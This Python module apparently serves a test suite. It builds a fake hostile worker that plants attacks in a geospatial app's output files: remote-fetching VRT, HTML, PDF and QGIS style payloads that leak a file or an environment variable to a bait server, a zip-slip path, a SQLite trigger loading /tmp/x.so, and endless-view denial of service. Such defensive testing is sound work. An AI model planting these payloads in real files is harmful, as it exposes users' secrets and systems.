"""What a hostile worker does to the files and texts of its results.

The fake worker obeys ``attack.json`` in its home (see :mod:`fake_jobs`): a kind of job, the name of
an attack, and the bait: a file and an address that nobody may read, and a variable of the
environment that nobody may tell.
"""

from __future__ import annotations

import dataclasses
import json
import sqlite3
import zipfile
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from trajganr_core.contract.kinds.result import FilesResult, JobResult
from trajganr_core.contract.layers.geopackage_styles import store_styles
from trajganr_core.contract.texts.text import Text


@dataclass(frozen=True)
class Bait:
    """What a victim must not read, ask or tell.

    Attributes:
        file: a CSV of this machine.
        address: of a server.
        variable: of the victim's environment.
    """

    file: str
    address: str
    variable: str

    @property
    def expression(self) -> str:
        """A text that QGIS may evaluate."""
        return f"[% env('{self.variable}') %]"


@dataclass(frozen=True)
class Attack:
    """An attack.

    Attributes:
        on_geopackage, on_other: what it does to a file.
        is_refused: whether the file must be refused; else it must be harmless.
        with_texts: whether texts of the result are expressions.
    """

    on_geopackage: Callable[[Path, Bait], None]
    on_other: Callable[[Path, Bait], None]
    is_refused: bool = True
    with_texts: bool = False


def attacked(make: Callable[..., JobResult], kind: str, home: Path) -> Callable[..., JobResult]:
    """A job of a kind, whose result is attacked if the home says so."""
    file = home / "attack.json"
    order = json.loads(file.read_text(encoding="utf-8")) if file.is_file() else {"kind": ""}
    if order["kind"] != kind:
        return make
    attack, bait = ATTACKS[order["attack"]], Bait(**order["bait"])

    def run(params: Any, out: Path, progress: Any) -> JobResult:
        result = make(params, out, progress)
        if isinstance(result, FilesResult):
            for name in result.files:
                path = out / name
                change = attack.on_geopackage if path.suffix == ".gpkg" else attack.on_other
                change(path, bait)
        return _retold(result, bait) if attack.with_texts else result

    return run


def _retold(result: JobResult, bait: Bait) -> JobResult:
    """The result with expressions in every text that nothing depends on."""
    texts = {"remarks": (Text("{what}", what=bait.expression),)}
    texts |= dict.fromkeys(
        {"licence", "attribution", "before", "after", "time_zone", "on", "endpoint"}
        & {field.name for field in dataclasses.fields(result)},
        bait.expression,
    )
    return dataclasses.replace(result, **texts)


def _vrt(path: Path, bait: Bait) -> None:
    """GDAL opens this as a layer of other files, whatever its name."""
    path.write_text(
        f'<OGRVRTDataSource><OGRVRTLayer name="roads"><SrcDataSource>{bait.file}</SrcDataSource>'
        f'<SrcLayer>bait</SrcLayer></OGRVRTLayer><OGRVRTLayer name="far"><SrcDataSource>/vsicurl/'
        f"{bait.address}/leak.csv</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>",
        encoding="utf-8",
    )


def _active(path: Path, bait: Bait) -> None:
    """A page, a PDF or an archive that does more than to show something."""
    content = path.read_bytes()
    if path.suffix == ".html":
        script = f"<script>fetch('{bait.address}')</script>"
        refresh = f'<meta http-equiv="refresh" content="0;url={bait.address}">'
        path.write_bytes(content + (script + refresh).encode())
    elif path.suffix == ".pdf":
        action = f"/OpenAction << /S /URI /URI ({bait.address}) >>"
        path.write_bytes(content.replace(b"%%EOF", action.encode() + b"\n%%EOF"))
    elif path.suffix == ".zip":
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr("../../leak.txt", "leak")
    else:
        _vrt(path, bait)


def _run(sql: str) -> Callable[[Path, Bait], None]:
    """Change a GeoPackage with SQL, in which {table} is its first table of data."""

    def change(path: Path, bait: Bait) -> None:
        with closing(sqlite3.connect(path)) as database, database:
            (table,) = database.execute(
                "SELECT table_name FROM gpkg_contents WHERE table_name <> 'layer_styles'"
            ).fetchone()
            database.executescript(sql.format(table=table, **dataclasses.asdict(bait)))

    return change


def _with_log(path: Path, bait: Bait) -> None:
    """Say that a part of the file is in another one."""
    content = bytearray(path.read_bytes())
    content[18:20] = b"\x02\x02"
    path.write_bytes(content)


def _cut(path: Path, bait: Bait) -> None:
    content = path.read_bytes()
    path.write_bytes(content[: len(content) // 2])


def _styled(path: Path, bait: Bait) -> None:
    """Store a style that asks a server, reads the environment, and acts."""
    leak = f"'{bait.address}/leak.svg?h=' || env('{bait.variable}')".replace("'", "&apos;")
    qml = f"""<qgis version="3.40.0" styleCategories="AllStyleCategories">
<renderer-v2 type="singleSymbol" symbollevels="0"><symbols><symbol type="marker" name="0">
<layer class="SvgMarker" enabled="1"><Option type="Map">
<Option type="QString" name="name" value="{bait.address}/leak.svg"/></Option>
<data_defined_properties><Option type="Map"><Option name="properties" type="Map">
<Option name="name" type="Map"><Option name="active" type="bool" value="true"/>
<Option name="expression" type="QString" value="{leak}"/>
<Option name="type" type="int" value="3"/></Option></Option></Option></data_defined_properties>
</layer></symbol></symbols></renderer-v2>
<expressionfields><field name="stolen" type="10" typeName="string" length="0" precision="0"
 comment="" subType="0" expression="env(&apos;{bait.variable}&apos;)"/></expressionfields>
<mapTip enabled="1">[% env('{bait.variable}') %]</mapTip>
<attributeactions><actionsetting type="1" name="leak" action="print(1)" capture="0"
 shortTitle="leak" icon="" notificationMessage="" id="{{0}}"/></attributeactions>
<previewExpression>env('{bait.variable}')</previewExpression></qgis>"""
    with closing(sqlite3.connect(path)) as database:
        tables = [name for (name,) in database.execute("SELECT table_name FROM gpkg_contents")]
        spatial = {
            name for (name,) in database.execute("SELECT table_name FROM gpkg_geometry_columns")
        }
    for table in set(tables) & spatial:
        titles = ("Traffic speed", "TrajGANR", "whole week", "leak")
        store_styles(path, table, dict.fromkeys(titles, qml))


def _worded(path: Path, bait: Bait) -> None:
    """Put an expression into every text."""
    with closing(sqlite3.connect(path)) as database, database:
        sql = "SELECT table_name FROM gpkg_contents WHERE table_name <> 'layer_styles'"
        for (table,) in database.execute(sql).fetchall():
            for _, name, kind, *_ in database.execute(f'PRAGMA table_info("{table}")').fetchall():
                if kind == "TEXT" and name not in ("time_set", "direction"):
                    database.execute(f'UPDATE "{table}" SET "{name}" = ?', (bait.expression,))


def _nothing(path: Path, bait: Bait) -> None:
    """Leave the file as it is."""


#: Rows of SQLite's own table, for what its program may lack the module of.
_ROW = (
    "PRAGMA writable_schema = ON; INSERT INTO sqlite_master VALUES ({row}); "
    "PRAGMA writable_schema = RESET;"
)
ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x AS fid FROM n"
QGIS_METADATA = """
    CREATE TABLE gpkg_metadata (id INTEGER PRIMARY KEY, md_scope TEXT, md_standard_uri TEXT,
        mime_type TEXT, metadata TEXT);
    INSERT INTO gpkg_metadata VALUES (1, 'dataset', 'http://mrcc.com/qgis.dtd', 'text/xml',
        '<qgis><links><link url="{address}"/></links></qgis>');
"""

#: The attacks by name; those on a GeoPackage do something similar to other files.
ATTACKS: dict[str, Attack] = {
    "vrt": Attack(_vrt, _vrt),
    "endless view": Attack(
        _run(f'ALTER TABLE "{{table}}" RENAME TO "moved"; CREATE VIEW "{{table}}" AS {ENDLESS};'),
        _active,
    ),
    "view beside": Attack(_run(f"CREATE VIEW beside AS {ENDLESS};"), _active),
    "trigger": Attack(
        _run(
            'CREATE TRIGGER t AFTER INSERT ON "{table}" BEGIN '
            "SELECT load_extension('/tmp/x.so'); END;"
        ),
        _active,
    ),
    "virtual table": Attack(
        _run(
            _ROW.replace(
                "{row}",
                "'table', 'far', 'far', 0, 'CREATE VIRTUAL TABLE far USING "
                'VirtualOGR("{address}/leak.csv")\'',
            )
        ),
        _active,
    ),
    "computed column": Attack(
        _run("ALTER TABLE \"{table}\" ADD COLUMN name2 TEXT GENERATED ALWAYS AS (fid || 'a');"),
        _active,
    ),
    "default": Attack(
        _run(
            _ROW.split("INSERT")[0]
            + "UPDATE sqlite_master SET sql = replace(sql, 'AUTOINCREMENT NOT NULL', "
            "'AUTOINCREMENT NOT NULL DEFAULT (random())') WHERE name = '{table}'; "
            "PRAGMA writable_schema = RESET;"
        ),
        _active,
    ),
    "undeclared column": Attack(
        _run('ALTER TABLE "{table}" ADD COLUMN "[% env(\'{variable}\') %]" TEXT;'), _active
    ),
    "undeclared table": Attack(_run("CREATE TABLE beside (fid INTEGER PRIMARY KEY);"), _active),
    "metadata": Attack(_run(QGIS_METADATA), _active),
    "hidden constraint": Attack(
        _run(
            _ROW.split("INSERT")[0]
            + "UPDATE sqlite_master SET sql = rtrim(sql, ')') || ', CONSTRAINT ''\"'' "
            "CHECK (ogr_geocode(''{address}'') = 1), CONSTRAINT ''\"'' CHECK (1))' "
            "WHERE name = '{table}'; PRAGMA writable_schema = RESET;"
        ),
        _active,
    ),
    "default of the standard": Attack(
        _run(
            "DROP TABLE IF EXISTS gpkg_metadata; CREATE TABLE gpkg_metadata (id INTEGER PRIMARY "
            "KEY, md_scope TEXT, md_standard_uri TEXT, mime_type TEXT DEFAULT "
            "(printf('{address}')), metadata TEXT);"
        ),
        _active,
    ),
    "coordinate system": Attack(
        _run("UPDATE gpkg_spatial_ref_sys SET definition = '{address}/crs' WHERE srs_id = 4326;"),
        _active,
    ),
    "log elsewhere": Attack(_with_log, _active),
    "cut": Attack(_cut, _active),
    "style": Attack(_styled, _nothing, is_refused=False),
    "texts": Attack(_worded, _nothing, is_refused=False, with_texts=True),
}
